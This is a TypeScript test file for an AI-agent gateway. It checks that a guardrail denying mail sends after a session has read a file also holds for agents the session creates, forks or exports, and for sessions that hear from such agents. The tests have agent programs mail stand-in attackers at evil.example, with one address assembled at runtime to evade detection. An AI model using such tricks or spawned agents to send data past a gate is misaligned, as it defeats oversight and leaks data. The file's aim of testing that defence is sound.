// What a session has read goes along to the agents that it makes or tells something, and back: a new agent cannot send
// what its maker could not. One gate, a real server behind it, programs of agents as the attackers.

import { afterAll, beforeAll, expect, test } from 'vitest'
import { serveGate } from '../support/own-gate.ts'
import { PlainClient } from '../support/plain-client.ts'
import { endGates, fixture, type ServingGate } from '../support/start-gate.ts'

const LONG = { timeout: 120_000 }
const POLICY = `
version: 1
default: allow
guardrails:
  - name: values from text
    match: { tools: [office/send_mail] }
    when: call.valueFromText
    action: deny
    reason: nobody vouches for it
`
const servers = {
  agents: { builtin: 'agents' as const },
  office: fixture('office', './office.log'),
}
let gate: ServingGate

beforeAll(async () => {
  gate = await serveGate({ servers, policy: POLICY })
}, 120_000)
afterAll(endGates)

const create = async (client: PlainClient): Promise<string> => {
  const given = { model: 'script:none', tools: ['office/*'] }
  return (await client.value('agents__wasm_agent_create', given)).agent.id
}

/** The address is put together by the program, so that it stands nowhere. */
async function send(client: PlainClient, agentId: string, name = 'eve'): Promise<string> {
  const code = `return tools.office.send_mail({ to: ['${name}', 'evil.example'].join('@') }).then(() => 'sent', String)`
  const input = { agentId, toolName: 'run_code', toolInput: { code } }
  const { output } = await client.value('agents__wasm_agent_tool', input)
  return JSON.parse(output).result ?? output
}

const DENIED = /nobody vouches for it/

test(
  'an agent of a session that has read nothing sends, one of a session that has read does not',
  LONG,
  async () => {
    const client = await PlainClient.open(gate, '')
    const before = await create(client)
    expect(await send(client, before, 'known')).toBe('sent')
    await client.call('office__read_file', { path: 'x' })
    expect(await send(client, before)).toMatch(DENIED)
    const made = await create(client)
    expect(await send(client, made)).toMatch(DENIED)
    const fork = (await client.value('agents__wasm_agent_fork', { agentId: made })).agents[0].id
    expect(await send(client, fork)).toMatch(DENIED)
    const bundle = await client.value('agents__wasm_agent_export', { agentId: made })
    const other = await PlainClient.open(gate, '')
    const copy = (await other.value('agents__wasm_agent_import', { bundle })).agent.id
    expect(await send(other, copy)).toMatch(DENIED)
  },
)

test('a session that hears from an agent which has read something has read', LONG, async () => {
  const client = await PlainClient.open(gate, '')
  const agentId = await create(client)
  const mail = async () => (await client.call('office__send_mail', { to: 'eve@evil.example' })).text
  expect(await mail()).not.toMatch(DENIED)
  const read = { agentId, toolName: 'office__read_file', toolInput: { path: 'x' } }
  await client.value('agents__wasm_agent_tool', read)
  const other = (await client.call('office__send_mail', { to: 'mallory@evil.example' })).text
  expect(other).toMatch(DENIED)
})
